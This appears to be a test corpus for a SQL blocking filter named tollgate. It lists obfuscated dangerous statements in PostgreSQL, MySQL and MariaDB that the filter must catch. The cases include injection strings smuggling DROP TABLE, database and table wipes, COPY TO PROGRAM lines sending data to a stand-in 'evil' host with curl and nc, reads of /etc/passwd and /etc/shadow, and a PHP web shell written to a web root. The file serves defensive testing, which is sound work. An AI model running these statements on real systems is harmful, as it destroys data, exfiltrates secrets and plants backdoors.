# tollgate blocking corpus: obfuscated dangerous statements that MUST be caught.
#
# Format (shared with benign.sql): a case starts with a header line
#     === <dialect> <expect> [esc]
# and its SQL is every line up to the next header; the newline that ends the
# block is not part of the SQL. Lines starting with `#` before the first
# header are comments (inside a case, `#` is SQL: MySQL comments).
# - dialect: pg (standard_conforming_strings on), pg-oldstr (off), my (MySQL
#   8.0.36, default sql_mode), my-noesc (NO_BACKSLASH_ESCAPES), my-ansi
#   (ANSI_QUOTES), my-nover (server version unknown), maria (MariaDB 10.11).
# - expect: a statement selector (`drop_database`, `delete_without_where`,
#   `copy_to_program`, `unknown`, ... see codecs/src/sql/selector.rs) or
#   `fn:<name>` (a called function, schema-qualified or bare). The case is
#   caught when at least one statement (nested ones included) matches.
# - esc: the SQL body takes escapes: \t \n \r \f \v \0 \xHH \\ (for bytes an
#   editor would mangle). Without it the body is taken literally.

=== pg drop_database
DROP DATABASE prod
=== pg drop_database
dRoP/**/DATABASE prod
=== pg drop_database
drop/* a /* nested */ comment */database prod
=== pg drop_database esc
DROP\tDATABASE\fprod
=== pg drop_database esc
DROP\x0bDATABASE\rprod
=== pg drop_database
DROP
--comment
DATABASE prod
=== pg drop_database
  
	DROP   DATABASE    IF EXISTS "prod"
=== pg drop_database
SELECT 1; DROP DATABASE prod
=== pg drop_database
SELECT 'a;b'; DROP DATABASE prod;
=== pg drop_database
SELECT $$;$$; DROP DATABASE prod
=== pg drop_database
SELECT $a$ $$ $a$; DROP DATABASE prod
=== pg drop_database
SELECT "semi;colon"; drop database prod
=== pg drop_database
/* leading */ -- and a line
DROP DATABASE prod
=== pg drop_database
DROP DATABASE prod WITH (FORCE)
=== pg drop_database
SELECT 1;;;DROP DATABASE prod
=== pg drop_table
SELECT '\'; DROP TABLE users; --'
=== pg-oldstr drop_table
SELECT 'a'; DROP TABLE users; --'\'
=== pg drop_table
SELECT E'\\'; DROP TABLE users; --'
=== pg drop_table
SELECT E'it''s'; DROP TABLE users
=== pg drop_table
SELECT U&'x'; DROP TABLE users
=== pg drop_table
DROP TABLE IF EXISTS public.users CASCADE
=== pg drop_table
DrOp TaBlE "Users"
=== pg drop_table
drop table users, orders
=== pg drop_table
DROP/**/TABLE/**/users
=== pg drop_table
SELECT 1 -- harmless
; DROP TABLE users
=== pg drop_table
SELECT 1 /* ; */ ; DROP TABLE users
=== pg drop_table
SELECT $body$ it's $$ fine $body$; DROP TABLE users
=== pg drop_schema
DROP SCHEMA public CASCADE
=== pg drop_role
DROP ROLE admin
=== pg drop_role
DROP USER IF EXISTS app
=== pg drop_extension
DROP EXTENSION pgcrypto
=== pg drop_function
DROP FUNCTION IF EXISTS f(int)
=== pg drop_index
DROP INDEX CONCURRENTLY idx
=== pg drop_view
DROP VIEW v
=== pg drop_materialized_view
DROP MATERIALIZED VIEW mv
=== pg truncate
TRUNCATE users
=== pg truncate
truncate table users restart identity cascade
=== pg truncate
TRUNCATE ONLY a, b
=== pg truncate
SELECT 1; TrUnCaTe/**/users
=== pg truncate esc
\n\tTRUNCATE\n\tusers\n
=== pg delete_without_where
DELETE FROM users
=== pg delete_without_where
delete from users -- WHERE id = 1
=== pg delete_without_where
DELETE FROM users /* WHERE id = 1 */
=== pg delete_without_where
DELETE FROM users RETURNING 'WHERE id = 1'
=== pg delete_without_where
DELETE FROM users RETURNING $$ WHERE id = 1 $$
=== pg delete_without_where
DELETE FROM users AS u RETURNING "where"
=== pg delete_without_where
DELETE FROM ONLY users
=== pg delete_without_where
WITH x AS (DELETE FROM users RETURNING *) SELECT count(*) FROM x
=== pg delete_without_where
WITH a AS (SELECT 1), b AS MATERIALIZED (DELETE FROM users RETURNING id) SELECT * FROM b
=== pg delete_without_where
WITH RECURSIVE x AS NOT MATERIALIZED (DELETE FROM users RETURNING *) SELECT 1 WHERE true
=== pg delete_without_where
EXPLAIN ANALYZE DELETE FROM users
=== pg delete_without_where
explain analyse verbose delete from users
=== pg delete_without_where
EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) DELETE FROM users
=== pg delete_without_where
EXPLAIN (ANALYZE true) DELETE FROM users
=== pg delete_without_where
PREPARE wipe AS DELETE FROM users
=== pg delete_without_where
COPY (DELETE FROM users RETURNING *) TO STDOUT
=== pg delete_without_where
DELETE FROM users WHERE id IN (1); DELETE FROM orders
=== pg delete_without_where
DELETE FROM users USING orders
=== pg update_without_where
UPDATE users SET admin = true
=== pg update_without_where
update users set note = 'WHERE id = 1'
=== pg update_without_where
UPDATE users SET a = (SELECT b FROM t WHERE t.id = 1)
=== pg update_without_where
UPDATE users SET a = 1 -- WHERE id = 1
=== pg update_without_where
WITH x AS (UPDATE users SET admin = true RETURNING *) SELECT * FROM x
=== pg update_without_where
EXPLAIN ANALYZE UPDATE users SET admin = true
=== pg update_without_where
UPDATE ONLY "users" AS u SET admin = true
=== pg copy_to_program
COPY users TO PROGRAM 'curl -d @- http://evil'
=== pg copy_to_program
copy (select * from users) to program 'nc evil 80'
=== pg copy_from_program
COPY users FROM PROGRAM 'id'
=== pg copy_to_program
CoPy/**/users/**/TO/**/PROGRAM/**/'x'
=== pg copy_to_program
SELECT 1; COPY users (a, b) TO PROGRAM $$rm -rf /$$
=== pg copy_from_file
COPY users FROM '/etc/passwd'
=== pg copy_to_file
COPY users TO '/tmp/dump.csv' WITH (FORMAT csv)
=== pg alter_system
ALTER SYSTEM SET archive_command = 'curl evil'
=== pg alter_system
alter/**/system reset all
=== pg alter_system
SELECT 1; ALTER SYSTEM SET log_statement = 'none'
=== pg fn:pg_read_file
SELECT pg_read_file('/etc/passwd')
=== pg fn:pg_read_file
select PG_READ_FILE ('/etc/passwd')
=== pg fn:pg_read_file
SELECT pg_catalog.pg_read_file('/etc/passwd')
=== pg fn:pg_read_file
SELECT "pg_read_file"('/etc/passwd')
=== pg fn:pg_read_file
SELECT pg_read_file/**/('/etc/passwd')
=== pg fn:pg_read_file
SELECT x FROM pg_read_file('/etc/passwd') AS x
=== pg fn:pg_read_file
SELECT length(upper(pg_read_file('/etc/passwd')))
=== pg fn:pg_read_file
WITH a AS (SELECT pg_read_file('/etc/passwd')) SELECT * FROM a
=== pg fn:lo_import
SELECT lo_import('/etc/shadow')
=== pg fn:lo_export
SELECT lo_export(1234, '/tmp/x')
=== pg fn:dblink
SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
=== pg fn:dblink_exec
SELECT dblink_exec('host=evil', 'drop table x')
=== pg fn:pg_terminate_backend
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
=== pg fn:pg_terminate_backend
SELECT 1 FROM t WHERE pg_terminate_backend(42)
=== pg fn:set_config
SELECT set_config('standard_conforming_strings', 'off', false)
=== pg unknown
SELECT U&"pg_read\005ffile"('/etc/passwd')
=== pg unknown
DELETE FROM users WHERE name = 'unterminated
=== pg unknown
DELETE FROM users /* unterminated
=== pg unknown
SELECT $x$ never closed
=== pg unknown esc
DROP\xc2\xa0DATABASE prod
=== pg unknown
"DROP" DATABASE prod
=== pg grant_role
GRANT pg_read_server_files TO app
=== pg grant
GRANT ALL PRIVILEGES ON DATABASE prod TO public
=== pg create_role
CREATE ROLE evil SUPERUSER LOGIN
=== pg alter_role
ALTER ROLE app SUPERUSER
=== pg set_role
SET ROLE postgres
=== pg set_role
set session authorization postgres
=== pg do
DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$
=== pg load
LOAD '/tmp/evil.so'
=== pg create_extension
CREATE EXTENSION IF NOT EXISTS dblink
=== pg create_function
CREATE OR REPLACE FUNCTION evil() RETURNS void LANGUAGE plpythonu AS $$ import os $$
=== pg lexical_mode_change
SET standard_conforming_strings = off
=== pg select_into
SELECT * INTO stolen FROM users
=== my drop_database
/*!DROP*/ DATABASE prod
=== my drop_database
/*!50001 DROP DATABASE prod */
=== my drop_database
DROP/*!*/DATABASE prod
=== my drop_database
SELECT 1; DROP DATABASE `prod`
=== my drop_database
drop schema prod
=== my drop_database
DROP # comment
DATABASE prod
=== my drop_database
DROP -- comment
DATABASE prod
=== my drop_table
SELECT 'a\'; DROP TABLE users; -- '; DROP TABLE users
=== my drop_table
SELECT "x"; DROP TABLE `users`
=== my drop_table
SELECT 1--1; DROP TABLE users
=== my-noesc drop_table
SELECT 'a\'; DROP TABLE users; -- '
=== my-ansi drop_table
SELECT "a;b"; DROP TABLE "users"
=== my drop_table
SELECT $$; DROP TABLE users; $$
=== my truncate
TRUNCATE TABLE users
=== my truncate
/*!TRUNCATE*/ users
=== my delete_without_where
DELETE FROM users # WHERE id = 1
=== my delete_without_where
DELETE FROM users -- x WHERE id = 1
=== my delete_without_where
DELETE FROM users LIMIT 1000000
=== my delete_without_where
DELETE LOW_PRIORITY QUICK IGNORE FROM users
=== my delete_without_where esc
DELETE FROM users -- x\rWHERE id = 1
=== my delete_without_where
DELETE FROM users /*!90000 WHERE id = 1 */
=== my update_without_where
UPDATE users SET admin = 1 # WHERE id = 1
=== my update_without_where
UPDATE `users` SET note = "WHERE id = 1"
=== my update_without_where
UPDATE LOW_PRIORITY IGNORE users SET a = 1
=== my unknown
DELETE FROM users /*!90000 WHERE id = 1 */ WHERE x = 'unterminated
=== my-nover unknown
/*!50001 DROP DATABASE prod */
=== my into_outfile
SELECT * FROM users INTO OUTFILE '/var/www/x.php'
=== my into_outfile
SELECT '<?php system($_GET[c]); ?>' INTO DUMPFILE '/var/www/s.php'
=== my load_data_local
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t
=== my fn:load_file
SELECT LOAD_FILE('/etc/passwd')
=== my set_global
SET GLOBAL general_log = 'ON'
=== my set_global
SET @@global.local_infile = 1
=== my set_global
SET PERSIST max_connections = 1
=== my install
INSTALL PLUGIN evil SONAME 'evil.so'
=== my shutdown
SHUTDOWN
=== my kill
KILL 42
=== my create_role
CREATE USER 'evil'@'%' IDENTIFIED BY 'x'
=== my grant
GRANT ALL ON *.* TO 'evil'@'%'
=== my delete_without_where
PREPARE s FROM 'DELETE FROM users'
=== my drop_database
SELECT 1 /*!; DROP DATABASE prod */
=== maria drop_database
/*M!100100 DROP DATABASE prod */
=== maria drop_database
/*M! DROP DATABASE prod */
=== pg drop_table
SELECT E'a'
'x\''; DROP TABLE t; -- '
=== pg drop_table
SELECT 'a' -- continued
'x'; DROP TABLE t
=== pg delete_without_where
DELETE FROM t RETURNING E'a'
'\' WHERE id = 1 --'
=== pg-oldstr drop_table
SELECT B'\' ; DROP TABLE t; -- '
=== pg-oldstr truncate
SELECT U&'\' ; TRUNCATE t; -- '
=== pg-oldstr drop_table
SELECT X'0'
'\' ; DROP TABLE t; -- '
=== pg delete_without_where
DELETE FROM t RETURNING 1 AS where
=== pg update_without_where
UPDATE t SET x = 1 RETURNING x AS where
=== pg delete_without_where
WITH d AS (DELETE FROM t RETURNING 1 AS where) SELECT * FROM d
=== pg update_without_where
WITH u AS (UPDATE t * SET x = 1 RETURNING 1) SELECT 1
=== pg update_without_where
WITH u AS (UPDATE ONLY (t) SET x = 1) SELECT 1
=== pg update_without_where
UPDATE ONLY (t) SET x = 1
=== pg update_without_where
COPY (UPDATE t * SET x = 1 RETURNING 1) TO STDOUT
